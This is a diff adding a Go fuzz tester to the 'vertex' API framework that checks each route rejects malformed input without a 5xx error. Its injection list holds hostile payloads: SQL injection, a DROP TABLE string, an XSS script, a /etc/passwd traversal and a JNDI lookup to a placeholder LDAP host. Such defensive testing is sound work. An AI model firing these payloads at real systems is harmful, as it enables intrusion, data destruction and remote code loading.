@@ -0,0 +1,219 @@
+package vertex
+
+import (
+	"fmt"
+	"net/http"
+	"net/url"
+	"reflect"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/EverythingMe/vertex/schema"
+)
+
+// the length of the overlong strings sent to every param
+const fuzzOverlongLength = 10000
+
+// fuzzInjections are sent to every param, to catch handlers passing params to queries, templates, files or logs
+// unescaped
+var fuzzInjections = []string{
+	"' OR '1'='1",
+	"\"; DROP TABLE users; --",
+	"<script>alert(1)</script>",
+	"../../../../etc/passwd",
+	"${jndi:ldap://example.com/a}",
+	"{{7*7}}",
+	"%00",
+	"\x00",
+	"\u202e\ufeff",
+}
+
+// routeFuzzer is a tester sending malformed and boundary values to every param of a route, asserting the server
+// rejects them with a 4xx error rather than failing with a 5xx error or a panic
+type routeFuzzer struct {
+	route Route
+}
+
+func (f routeFuzzer) Category() string {
+	return CriticalTests
+}
+
+func (f routeFuzzer) Test(t *TestContext) {
+
+	info, err := schema.NewRequestInfo(reflect.TypeOf(f.route.Handler), f.route.Path, f.route.Description,
+		f.route.Returns)
+	if err != nil {
+		t.Skip()
+	}
+
+	for _, m := range methodFlags {
+		if f.route.Methods&m.flag != m.flag || m.flag == OPTIONS {
+			continue
+		}
+
+		for i, param := range info.Params {
+			// JSON bodies are not fuzzed
+			if param.Hidden || param.In == "body" {
+				continue
+			}
+			for _, value := range fuzzValues(param) {
+				params := validParams(info.Params)
+				params[i] = value
+				t.fuzzRequest(m.name, info.Params, params, fmt.Sprintf("%s=%q", param.Name, truncateFuzzValue(value)))
+			}
+		}
+	}
+}
+
+// fuzzRequest sends a request with param values, failing the test on a 5xx response
+func (t *TestContext) fuzzRequest(method string, infos []schema.ParamInfo, params []string, desc string) {
+
+	values, pathParams := paramValues(infos, params)
+	req, err := t.NewRequest(method, values, pathParams)
+	if err != nil {
+		// values the request cannot even be built with cannot reach the server
+		return
+	}
+	setHeaderParams(req, infos, params)
+	if t.coverage != nil {
+		t.coverage.record(req)
+	}
+
+	exchange := newTestExchange(req)
+	start := time.Now()
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		exchange.setResponse(nil, nil, err, start)
+		t.recordExchange(exchange)
+		panic(newTestResult(resultFailed, fmt.Sprintf("%s %s: request failed: %s", method, desc, err), 2, t))
+	}
+	resp.Body.Close()
+	exchange.setResponse(resp, nil, nil, start)
+	t.recordExchange(exchange)
+
+	if resp.StatusCode >= 500 {
+		panic(newTestResult(resultFailed, fmt.Sprintf("%s %s: %s", method, desc, resp.Status), 2, t))
+	}
+}
+
+// paramValues splits param values to the path params and the query or form values of a request. Empty values are
+// omitted, and header and cookie params are set by setHeaderParams
+func paramValues(infos []schema.ParamInfo, params []string) (url.Values, Params) {
+
+	values := url.Values{}
+	pathParams := Params{}
+	for i, p := range infos {
+		if p.In == "path" {
+			pathParams[p.Name] = url.PathEscape(params[i])
+		} else if params[i] != "" && p.In != "body" && p.In != "header" && p.In != "cookie" {
+			values.Set(p.Name, params[i])
+		}
+	}
+	return values, pathParams
+}
+
+// setHeaderParams sets the values of header and cookie params as request headers and cookies. Values that cannot be
+// sent in a header are omitted
+func setHeaderParams(req *http.Request, infos []schema.ParamInfo, params []string) {
+	for i, p := range infos {
+		if params[i] == "" || strings.ContainsAny(params[i], "\r\n\x00") {
+			continue
+		}
+		switch p.In {
+		case "header":
+			req.Header.Set(p.Name, params[i])
+		case "cookie":
+			req.AddCookie(&http.Cookie{Name: p.Name, Value: params[i]})
+		}
+	}
+}
+
+// validParams returns valid values of params, so a single param is malformed at a time
+func validParams(params []schema.ParamInfo) []string {
+	ret := make([]string, len(params))
+	for i, p := range params {
+		ret[i] = validValue(p)
+	}
+	return ret
+}
+
+// validValue returns a valid value of a param according to its schema
+func validValue(p schema.ParamInfo) string {
+
+	if p.HasDefault {
+		return p.RawDefault
+	}
+	if len(p.Options) > 0 {
+		return p.Options[0]
+	}
+
+	switch p.Kind {
+	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64,
+		reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64:
+		if p.HasMin {
+			return strconv.Itoa(int(p.Min))
+		}
+		if p.HasMax && p.Max < 1 {
+			return strconv.Itoa(int(p.Max))
+		}
+		return "1"
+	case reflect.Float32, reflect.Float64:
+		if p.HasMin {
+			return strconv.FormatFloat(p.Min, 'f', -1, 64)
+		}
+		if p.HasMax && p.Max < 1 {
+			return strconv.FormatFloat(p.Max, 'f', -1, 64)
+		}
+		return "1"
+	case reflect.Bool:
+		return "true"
+	}
+
+	if p.MinLength > 0 {
+		return strings.Repeat("a", p.MinLength)
+	}
+	return "a"
+}
+
+// fuzzValues returns malformed and boundary values of a param according to its schema. The empty value omits the
+// param
+func fuzzValues(p schema.ParamInfo) []string {
+
+	ret := []string{"", strings.Repeat("a", fuzzOverlongLength)}
+	ret = append(ret, fuzzInjections...)
+
+	switch p.Kind {
+	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64,
+		reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64,
+		reflect.Float32, reflect.Float64:
+		ret = append(ret, "abc", "-", "1e999", "NaN", "-1", "9223372036854775808", "-9223372036854775809", "0x10")
+		if p.HasMin {
+			ret = append(ret, strconv.FormatFloat(p.Min-1, 'f', -1, 64))
+		}
+		if p.HasMax {
+			ret = append(ret, strconv.FormatFloat(p.Max+1, 'f', -1, 64))
+		}
+	case reflect.Bool:
+		ret = append(ret, "abc", "2", "-1")
+	}
+
+	if p.MaxLength > 0 {
+		ret = append(ret, strings.Repeat("a", p.MaxLength+1))
+	}
+	if p.MinLength > 1 {
+		ret = append(ret, strings.Repeat("a", p.MinLength-1))
+	}
+	if len(p.Options) > 0 {
+		ret = append(ret, p.Options[0]+"x")
+	}
+	return ret
+}
+
+// truncateFuzzValue shortens overlong values in failure messages
+func truncateFuzzValue(v string) string {
+	if len(v) > 32 {
+		return fmt.Sprintf("%s... (%d chars)", v[:32], len(v))
+	}
+	return v
+}